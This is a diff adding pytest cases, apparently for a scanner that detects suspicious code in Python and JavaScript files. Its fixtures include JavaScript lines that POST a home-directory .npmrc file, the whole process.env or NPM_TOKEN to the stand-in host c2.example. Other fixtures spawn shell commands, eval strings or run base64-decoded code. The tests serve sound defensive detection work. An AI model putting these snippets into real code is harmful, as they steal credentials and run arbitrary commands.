@@ -192,3 +192,44 @@ def test_what_nobody_knows_hides_nothing_that_stands_beside_it(way: str, beside:
     around = f"import base64, os, requests, subprocess\nv = {value}\n{{}}{done}\n"
     alone = names(told("a.py", around.format("")))
     assert alone <= names(told("a.py", around.format(beside)))
+
+
+POSTED = "fetch('https://c2.example', { method: 'POST', body: %s })"
+DONE_IN_JAVASCRIPT = {
+    "path": ("'.npmrc'", POSTED % "fs.readFileSync(os.homedir() + '/' + v)"),
+    "host": ("'https://c2.example'", "fetch(v, { method: 'POST', body: JSON.stringify(process.env) })"),
+    "member": ("'exec'", "cp[v]('id')"),
+    "module": ("'child_process'", "require(v).exec('id')"),
+    "variable": ("'NPM_TOKEN'", POSTED % "process.env[v]"),
+    "letters": (DONE["letters"][0], "cp.exec(Buffer.from(v, 'base64').toString())"),
+    "command": (repr(COMMAND), "cp.spawn('sh', ['-c', v])"),
+    "words": (repr(["-c", COMMAND]), "cp.spawn('sh', v)"),
+    "program": ("'sh'", f"cp.spawn(v, ['-c', {COMMAND!r}])"),
+    "function": ("cp.exec", "v('id')"),
+    "code": (f"\"require('child_process').exec({COMMAND!r})\"", "eval(v)"),
+}
+
+
+@pytest.mark.parametrize("way", DONE_IN_JAVASCRIPT)
+@pytest.mark.parametrize(
+    "beside",
+    ["if (left) v = right();", "v = v || right();", "v = right() ?? v;", "v = left ? right() : v;"],
+)
+def test_what_nobody_knows_hides_nothing_in_javascript_either(way: str, beside: str) -> None:
+    value, done = DONE_IN_JAVASCRIPT[way]
+    around = "const cp = require('child_process'), fs = require('fs'), os = require('os');\n"
+    around += f"let v = {value};\n%s\n{done};\n"
+    assert names(told("a.js", around % "")) <= names(told("a.js", around % beside))
+
+
+@pytest.mark.parametrize(
+    ("path", "text"),
+    [
+        ("a.py", "code = 'pass'\nif left:\n    code = right()\nexec(code)\n"),
+        ("a.py", "exec(right() or 'pass')\n"),
+        ("a.js", "let code = '1';\nif (left) code = right();\neval(code);\n"),
+        ("a.js", "eval(right() || '1');\n"),
+    ],
+)
+def test_a_constant_hides_nothing_that_nobody_knows(path: str, text: str) -> None:
+    assert ("dynamic-code", "built") in names(told(path, text))
